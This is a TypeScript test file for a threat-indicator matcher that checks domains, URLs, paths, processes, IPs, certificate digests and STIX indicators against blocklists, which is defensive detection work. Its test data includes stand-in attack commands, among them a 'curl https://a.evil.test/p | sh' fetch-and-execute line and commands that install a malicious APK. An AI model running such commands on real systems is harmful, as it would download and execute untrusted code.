import type { Observable, ObservableKind } from '@vedette/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createIndicatorSet } from './indicator-set.ts';
import { readPlainList } from './read-lists.ts';
import { readStix } from './read-stix.ts';

type Pair = readonly [ObservableKind, string];
const setOf = (...values: readonly Pair[]) =>
  createIndicatorSet([
    {
      name: 'list',
      indicators: values.map(([kind, value]) => ({
        all: [{ kind, value }],
        name: 'Family',
        reference: null,
        at: null,
      })),
    },
  ]);
const hits = (listed: Pair, ...seen: readonly Pair[]) =>
  seen.map(([kind, value]) => setOf(listed).match({ kind, value }).length > 0);

describe('matching', () => {
  it('knows hosts at labels, never above what somebody registered', () => {
    const listed: Pair = ['domain', 'evil.test'];
    expect(
      hits(
        listed,
        ['domain', 'evil.test'],
        ['domain', 'EVIL.test.'],
        ['domain', 'w3.evil.test'],
        ['url', 'https://a.b.evil.test:8443/x?y#z'],
      ),
    ).toEqual([true, true, true, true]);
    expect(hits(listed, ['domain', 'notevil.test'], ['domain', 'evil.test.example.org'], ['domain', 'test'])).toEqual([
      false,
      false,
      false,
    ]);
    // A platform where anyone can have a name: listing the platform's name lists nobody below it.
    expect(hits(['domain', 'github.io'], ['domain', 'github.io'], ['domain', 'honest.github.io'])).toEqual([
      true,
      false,
    ]);
    expect(hits(['domain', 'evil.github.io'], ['domain', 'x.evil.github.io'], ['domain', 'honest.github.io'])).toEqual([
      true,
      false,
    ]);
    expect(hits(['domain', 'co.uk'], ['domain', 'shop.co.uk'])).toEqual([false]);
  });

  it('keeps the first letters of a host (B8) and what follows a question mark (B11)', () => {
    expect(hits(['domain', 'w3.evil.test'], ['domain', 'w3.evil.test'], ['domain', '3.evil.test'])).toEqual([
      true,
      false,
    ]);
    expect(
      hits(
        ['url', 'http://evil.test/a?q=1'],
        ['url', 'http://EVIL.test:80/a?q=1#top'],
        ['url', 'http://evil.test/a?q=2'],
      ),
    ).toEqual([true, false]);
    expect(hits(['url', 'http://evil.test/a'], ['url', 'http://evil.test/a?q=2'])).toEqual([true]);
  });

  it('knows paths at their parts (B9)', () => {
    expect(
      hits(
        ['path', '/data/evil'],
        ['path', '/data/evil'],
        ['path', '/data/evil/x'],
        ['path', '/data/evilness/ok'],
        ['path', '/data'],
      ),
    ).toEqual([true, true, false, false]);
    expect(hits(['file-name', 'roleaboutd'], ['path', '/private/var/db/roleaboutd'])).toEqual([true]);
  });

  it('knows processes whole, cut as iOS cuts them, and by their app', () => {
    expect(
      hits(['process', 'roleaccountd'], ['process', '/usr/libexec/roleaccountd'], ['process', 'roleaccountd2']),
    ).toEqual([true, false]);
    expect(
      hits(['process', 'com.apple.very.long.name'], ['process', 'com.apple.very.l'], ['process', 'com.apple.very.']),
    ).toEqual([true, false]);
    expect(hits(['app', 'com.evil.app'], ['process', 'com.evil.app:remote'], ['process', 'com.evil.apps'])).toEqual([
      true,
      false,
    ]);
  });

  it('looks into commands word by word (B13)', () => {
    expect(
      hits(
        ['app', 'com.evil.app'],
        ['command', 'pm install /sdcard/com.evil.app.apk -r'],
        ['command', 'am start com.evil.app/.Main'],
        ['command', 'pm install com.evil.appliance'],
      ),
    ).toEqual([true, true, false]);
    expect(hits(['path', '/data/local/tmp/x'], ['command', 'sh -c "/data/local/tmp/x --run"'])).toEqual([true]);
    expect(hits(['domain', 'evil.test'], ['command', 'curl https://a.evil.test/p | sh'])).toEqual([true]);
  });

  it('knows addresses in every spelling, and networks', () => {
    expect(hits(['ip', '2001:db8::1'], ['ip', '2001:0DB8:0:0:0:0:0:1'], ['url', 'http://[2001:db8::1]/'])).toEqual([
      true,
      true,
    ]);
    expect(
      hits(['ip', '198.51.100.0/24'], ['ip', '198.51.100.77'], ['ip', '198.51.101.1'], ['domain', '198.51.100.3']),
    ).toEqual([true, false, true]);
    expect(hits(['ip', '2001:db8::/32'], ['ip', '2001:db8:5::9'], ['ip', '2001:db9::1'])).toEqual([true, false]);
  });

  it('compares digests without colons and case', () => {
    expect(
      hits(
        ['certificate-sha1', '31A6ECECD97CF39BC4126B8745CD94A7C30BF81C'],
        ['certificate-sha1', '31:a6:ec:ec:d9:7c:f3:9b:c4:12:6b:87:45:cd:94:a7:c3:0b:f8:1c'],
        ['sha1', '31a6ececd97cf39bc4126b8745cd94a7c30bf81c'],
      ),
    ).toEqual([true, false]);
  });

  it('says why, from which list and how old', () => {
    const list = readStix(
      {
        type: 'bundle',
        objects: [
          { type: 'malware', id: 'malware--1', name: 'Example' },
          {
            type: 'indicator',
            id: 'indicator--1',
            pattern: "[domain-name:value='evil.test']",
            created: '2021-01-02T03:04:05Z',
          },
          { type: 'relationship', id: 'relationship--1', source_ref: 'indicator--1', target_ref: 'malware--1' },
          { type: 'indicator', id: 'indicator--2', pattern: "[domain-name:value='old.test']", revoked: true },
        ],
      },
      'campaign.stix2',
    ).value;
    const [hit] = createIndicatorSet([list]).match({ kind: 'url', value: 'http://x.evil.test/' });
    expect(hit).toMatchObject({
      indicator: { kind: 'domain', value: 'evil.test' },
      source: { list: 'campaign.stix2', name: 'Example', reference: 'indicator--1', at: '2021-01-02T03:04:05.000Z' },
    });
    expect(hit?.how).toContain('below the listed domain');
    expect(createIndicatorSet([list]).match({ kind: 'domain', value: 'old.test' })).toEqual([]);
  });

  it('lets a statement of several parts hit only where all of them are', () => {
    const list = readStix(
      { objects: [{ type: 'indicator', id: 'i', pattern: "[file:name='a.bin' AND file:path='/data/x']" }] },
      'l',
    ).value;
    const set = createIndicatorSet([list]);
    const name: Observable = { kind: 'file-name', value: 'a.bin' };
    expect(set.match(name)).toEqual([]);
    expect(set.matchRecord([name])).toEqual([]);
    expect(set.matchRecord([name, { kind: 'path', value: '/data/x' }])).toHaveLength(1);
  });

  it('agrees with a slow and plain reference on hosts', () => {
    const label = fc.constantFrom('a', 'b', 'evil', 'www');
    const host = fc
      .array(label, { minLength: 1, maxLength: 4 })
      .map((labels) => [...labels, 'example', 'org'].join('.'));
    fc.assert(
      fc.property(fc.array(host, { maxLength: 8 }), host, (listed, seen) => {
        const set = createIndicatorSet([readPlainList(listed.join('\n'), 'domains.txt').value]);
        const expected = listed.some((one) => seen === one || seen.endsWith(`.${one}`));
        return set.match({ kind: 'domain', value: seen }).length > 0 === expected;
      }),
    );
  });

  it('finds each of many values and nothing else', () => {
    const values = Array.from({ length: 20_000 }, (_, index) => `host-${index}.example.org`);
    const set = createIndicatorSet([readPlainList(values.join('\n'), 'domains.txt').value]);
    expect(set.total).toBe(20_000);
    for (const value of values.slice(0, 500)) expect(set.match({ kind: 'domain', value })).toHaveLength(1);
    expect(set.match({ kind: 'domain', value: 'host-20000.example.org' })).toEqual([]);
  });
});
